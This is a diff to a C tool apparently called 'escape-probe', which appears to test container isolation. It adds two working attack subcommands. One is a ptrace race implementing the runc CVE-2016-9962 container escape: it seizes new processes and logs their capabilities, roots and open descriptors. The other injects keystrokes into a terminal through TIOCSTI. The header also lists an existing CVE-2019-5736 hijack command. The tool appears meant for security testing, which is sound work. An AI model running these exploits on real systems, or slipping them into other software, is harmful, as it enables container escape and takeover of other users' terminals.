@@ -12,6 +12,11 @@
  *   mount SRC TARGET FSTYPE    mount(SRC, TARGET, FSTYPE, MS_RDONLY); umounts again on success
  *   fds                        every open descriptor and where it points, then cwd and root
  *   hijack FIFO OUT            the CVE-2019-5736 attack on a helper blocked opening FIFO (see below)
+ *   ptrace-race LOG SECONDS    the runc CVE-2016-9962 attack: seize every new pid of the namespace
+ *                              as it appears, and record what each caught process holds (see below);
+ *                              ends early once LOG.stop exists
+ *   tiocsti FD TEXT            push TEXT into the input of the terminal on FD (TIOCSTI), as typed;
+ *                              '~' is Enter, '|' waits a second (the shell that ran it may exit)
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -21,7 +26,10 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/wait.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
@@ -83,6 +91,108 @@ static int hijack(const char *fifo) {
     return 1;
 }
 
+/* "Key:\tvalue" of /proc/PID/status, whitespace squeezed, or "?" */
+static void status_field(int pid, const char *key, char *out, size_t size) {
+    char path[64], line[512];
+    snprintf(path, sizeof path, "/proc/%d/status", pid);
+    snprintf(out, size, "?");
+    FILE *f = fopen(path, "r");
+    if (!f) return;
+    size_t k = strlen(key);
+    while (fgets(line, sizeof line, f)) {
+        if (strncmp(line, key, k) || line[k] != ':') continue;
+        char *v = line + k + 1, *o = out;
+        for (; *v && o < out + size - 1; v++) {
+            if (*v == '\n') break;
+            if (*v == '\t' || *v == ' ') { if (o > out && o[-1] != ',') *o++ = ','; continue; }
+            *o++ = *v;
+        }
+        if (o > out && o[-1] == ',') o--;
+        *o = '\0';
+        break;
+    }
+    fclose(f);
+}
+
+/* One line about a process: its exe, ids, capabilities, seccomp, no_new_privs, cwd, root, fds. */
+static void describe(FILE *out, const char *what, int pid) {
+    char state[64];
+    status_field(pid, "State", state, sizeof state); /* gone, or a zombie: it holds nothing any more */
+    if (state[0] == '?' || state[0] == 'Z' || state[0] == 'X') { fprintf(out, "gone pid=%d\n", pid); fflush(out); return; }
+    static const char *keys[] = { "Uid", "Gid", "CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb", "NoNewPrivs", "Seccomp" };
+    char path[300], target[4096], v[256];
+    fprintf(out, "%s pid=%d", what, pid);
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    ssize_t n = readlink(path, target, sizeof target - 1);
+    fprintf(out, " exe=%s", n > 0 ? (target[n] = '\0', target) : "?");
+    for (size_t i = 0; i < sizeof keys / sizeof *keys; i++) { status_field(pid, keys[i], v, sizeof v); fprintf(out, " %s=%s", keys[i], v); }
+    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
+    n = readlink(path, target, sizeof target - 1);
+    fprintf(out, " cwd=%s", n > 0 ? (target[n] = '\0', target) : "?");
+    snprintf(path, sizeof path, "/proc/%d/root", pid);
+    n = readlink(path, target, sizeof target - 1);
+    fprintf(out, " root=%s fds=", n > 0 ? (target[n] = '\0', target) : "?");
+    snprintf(path, sizeof path, "/proc/%d/fd", pid);
+    DIR *d = opendir(path);
+    struct dirent *e;
+    int first = 1;
+    while (d && (e = readdir(d))) {
+        if (e->d_name[0] == '.') continue;
+        char fdpath[600];
+        snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%s", pid, e->d_name);
+        n = readlink(fdpath, target, sizeof target - 1);
+        fprintf(out, "%s%s:%s", first ? "" : "|", e->d_name, n > 0 ? (target[n] = '\0', target) : "?");
+        first = 0;
+    }
+    if (d) closedir(d); else fprintf(out, "unreadable");
+    fprintf(out, "\n");
+    fflush(out);
+}
+
+/* The runc CVE-2016-9962 attack: spin on PTRACE_SEIZE of the namespace's newest pids (from
+ * ns_last_pid) for SECONDS; every process caught is stopped, described (while it cannot move) and
+ * released. Ends with "seen N caught M": N new pids appeared while it raced. */
+static int ptrace_race(const char *log, int seconds) {
+    FILE *out = fopen(log, "w");
+    if (!out) return result(-1);
+    describe(out, "self", getpid());
+    int lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+    if (lastfd < 0) return result(-1);
+    time_t end = time(NULL) + seconds;
+    long prev = -1, seen = 0, caught = 0, tries = 0;
+    char stop[4200];
+    snprintf(stop, sizeof stop, "%s.stop", log);
+    int recent[64] = { 0 }, nrecent = 0; /* a pid is described at most twice (before and after its exec) */
+    for (long round = 0; time(NULL) < end; round++) {
+        if (round % 4096 == 0 && access(stop, F_OK) == 0) break;
+        char buf[32];
+        ssize_t n = pread(lastfd, buf, sizeof buf - 1, 0);
+        if (n <= 0) continue;
+        buf[n] = '\0';
+        long last = atol(buf);
+        if (prev >= 0 && last > prev) seen += last - prev;
+        prev = last;
+        for (long pid = last; pid <= last + 2; pid++) {
+            if (pid == getpid()) continue;
+            int times = 0;
+            for (int i = 0; i < 64; i++) times += recent[i] == pid;
+            if (times >= 2) continue;
+            tries++;
+            if (ptrace(PTRACE_SEIZE, (pid_t)pid, 0, 0) < 0) continue;
+            caught++;
+            recent[nrecent++ % 64] = (int)pid;
+            ptrace(PTRACE_INTERRUPT, (pid_t)pid, 0, 0);
+            int st;
+            waitpid((pid_t)pid, &st, __WALL);
+            describe(out, "caught", (int)pid);
+            ptrace(PTRACE_DETACH, (pid_t)pid, 0, 0);
+        }
+    }
+    fprintf(out, "seen %ld caught %ld tries %ld\n", seen, caught, tries);
+    fclose(out);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IONBF, 0);
     if (argc < 2) { fprintf(stderr, "usage: see the source\n"); return 2; }
@@ -137,6 +247,16 @@ int main(int argc, char **argv) {
         return 0;
     }
     if (!strcmp(c, "hijack") && argc == 3) return hijack(argv[2]);
+    if (!strcmp(c, "ptrace-race") && argc == 4) return ptrace_race(argv[2], atoi(argv[3]));
+    if (!strcmp(c, "tiocsti") && argc == 4) {
+        int fd = atoi(argv[2]);
+        for (const char *p = argv[3]; *p; p++) {
+            if (*p == '|') { sleep_ms(1000); continue; }
+            char ch = *p == '~' ? '\r' : *p; /* ~ stands for Enter */
+            if (ioctl(fd, TIOCSTI, &ch) < 0) return result(-1);
+        }
+        return result(0);
+    }
     fprintf(stderr, "escape-probe: bad command\n");
     return 2;
 }
